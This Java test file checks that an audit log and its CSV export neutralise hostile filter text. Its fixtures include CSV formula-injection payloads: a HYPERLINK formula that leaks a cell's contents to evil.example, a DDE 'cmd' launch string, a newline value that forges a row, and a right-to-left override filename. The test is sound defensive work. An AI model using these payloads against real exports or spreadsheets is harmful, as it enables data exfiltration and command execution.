package org.ombuds.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.ombuds.support.Http;
import org.ombuds.support.WebTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * What anyone types into the audit log's filter is logged as given; the log and its CSV export must not let that
 * text become a formula, a second row or a control sequence.
 */
class AuditExportTest extends WebTest {
    private static final String FORMULA_STARTS = "=+-@\t\r\n";

    @Autowired
    JdbcClient jdbc;
    @Autowired
    AuditLog log;

    @Test
    void hostileFilterValuesComeBackFromTheExportAsOneRowEachAndNeverAsAFormula() throws Exception {
        String email = unique("auditor") + "@example.org";
        String adminId = accounts.add(email, "Auditor", "admin").id();
        String admin = tokens.createForAccount(email, null, "audit").token();
        // The hostile value as typed, and how the log keeps it (control characters and backslashes escaped).
        Map<String, String> hostile = new LinkedHashMap<>();
        hostile.put("=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")\n", "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")\\u000A");
        hostile.put("x\n\n999999,2026-01-01T00:00:00Z,admin,delete,case,FORGED-ROW,c,local,0,0",
                "x\\u000A\\u000A999999,2026-01-01T00:00:00Z,admin,delete,case,FORGED-ROW,c,local,0,0");
        hostile.put("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0");
        hostile.put("-2+3", "-2+3");
        hostile.put("@SUM(1+1)", "@SUM(1+1)");
        hostile.put("\t=1", "\\u0009=1");
        hostile.put("\r=1", "\\u000D=1");
        hostile.put("  =1+1", "  =1+1");
        hostile.put("a\"b,c\r\nd", "a\"b,c\\u000D\\u000Ad");
        hostile.put("\u202Egnp.exe", "\\u202Egnp.exe");
        hostile.put("typed\\u000A", "typed\\\\u000A");
        for (String value : hostile.keySet()) {
            var read = http().get("/api/v1/audit?account=" + URLEncoder.encode(value, StandardCharsets.UTF_8), Http.bearer(admin));
            assertThat(read.status()).as(value).isEqualTo(200);
        }

        List<String> stored = jdbc.sql("SELECT record_id FROM audit_entry WHERE actor = ? AND action = 'read' AND record_type = 'audit-log'")
                .param(adminId).query(String.class).list();
        assertThat(stored).containsExactlyInAnyOrderElementsOf(hostile.values());
        assertThat(stored).allSatisfy(value -> assertThat(value).doesNotContainPattern("[\\p{Cc}\\p{Cf}\\u2028\\u2029]"));
        assertThat(log.verify().intact()).as("escaped before hashing: the chain still holds").isTrue();

        var export = http().get("/api/v1/audit/export?account=" + adminId, Http.bearer(admin));
        assertThat(export.status()).isEqualTo(200);
        List<CSVRecord> rows;
        try (CSVParser parser = CSVParser.parse(export.body(), CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            rows = parser.getRecords();
        }
        int entries = jdbc.sql("SELECT COUNT(*) FROM audit_entry WHERE actor = ?").param(adminId).query(Integer.class).single();
        assertThat(rows).as("one row per entry, none forged").hasSize(entries);
        assertThat(rows).allSatisfy(row -> assertThat(row.get("seq")).matches("[0-9]+"))
                .noneSatisfy(row -> assertThat(row.get("seq")).isEqualTo("999999"));
        List<String> cells = new ArrayList<>();
        rows.forEach(row -> row.forEach(cells::add));
        assertThat(cells).allSatisfy(cell -> assertThat(cell.isEmpty() || FORMULA_STARTS.indexOf(cell.stripLeading().charAt(0)) < 0)
                .as("no cell starts as a formula: %s", cell).isTrue());
        List<String> recordIds = rows.stream().filter(row -> row.get("action").equals("read")).map(row -> row.get("record_id")).toList();
        for (String kept : hostile.values()) {
            String shown = FORMULA_STARTS.indexOf(kept.stripLeading().charAt(0)) >= 0 ? "'" + kept : kept;
            assertThat(recordIds).as("recognisable in the export").contains(shown);
        }
        assertThat(export.body().lines().filter(line -> !line.startsWith("\"")).toList())
                .as("every line of the file starts a quoted record").isEmpty();
    }
}
